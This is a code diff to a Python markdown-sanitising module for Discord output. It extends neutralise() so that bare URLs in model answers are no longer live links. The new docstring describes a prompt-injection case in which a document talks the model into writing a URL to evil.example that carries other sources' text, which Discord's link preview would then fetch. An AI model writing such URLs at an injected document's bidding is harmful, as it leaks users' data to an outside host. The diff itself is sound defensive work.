@@ -7,7 +7,8 @@ heading or a code fence swallow the rest of the reply.
 
 - :func:`escape`: the text, literally (every markdown character backslash-escaped).
 - :func:`neutralise`: for model answers, which legitimately use bold, italics and lists:
-  links, mentions, headings, code and spoilers are defused, emphasis is kept.
+  links (bare URLs included), mentions, headings, code and spoilers are defused, emphasis
+  is kept.
 - :func:`code`: a name shown as inline code (a code span renders its content literally;
   only a backtick could end it early).
 """
@@ -32,8 +33,12 @@ def escape(text: str) -> str:
 
 
 def neutralise(text: str) -> str:
-    """``text`` with links, mentions, headings, code and spoilers defused; emphasis kept."""
-    return _MASKED.sub("]\\(", _ACTIVE.sub(r"\\\1", text))
+    """``text`` with links, mentions, headings, code and spoilers defused; emphasis kept.
+
+    Bare URLs too: Discord fetches a link in a message for its preview, so a document that
+    talks the model into writing ``https://evil.example/?d=<other sources' text>`` would send
+    that text to evil.example. The address stays readable, it is just not a link."""
+    return _MASKED.sub("]\\(", _ACTIVE.sub(r"\\\1", text)).replace("://", "\\://")
 
 
 def code(name: str, limit: int = 200) -> str:
